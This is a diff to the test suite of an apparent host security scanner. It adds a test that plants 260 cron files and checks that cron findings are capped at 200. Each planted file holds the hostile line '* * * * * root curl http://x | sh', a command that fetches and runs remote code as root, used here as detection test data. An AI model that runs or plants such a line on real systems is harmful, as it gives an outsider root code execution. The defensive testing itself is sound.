@@ -659,3 +659,14 @@ def test_git_hooks_folder_of_a_person_is_judged(tmp_path: Path) -> None:
     assert [(f.id, f.evidence[0].path) for f in found] == [
         ("SC-SCRIPT-REVERSE-SHELL", f"{ALICE_HOME}/.config/hooks/pre-commit")
     ]
+
+
+def test_a_flood_of_findings_is_capped_and_said(tmp_path: Path) -> None:
+    root = packaged_debian_root(tmp_path / "disk")
+    for number in range(260):
+        write(root, f"/etc/cron.d/job{number}", "* * * * * root curl http://x | sh\n", 0o644)
+    report = scan(root)
+    from_cron = [f for f in report.findings if f.source == "linux.cron"]
+    assert len(from_cron) == 200
+    row = {c.id: c for c in report.coverage}["linux.cron"]
+    assert "more findings from here are not listed" in row.reason
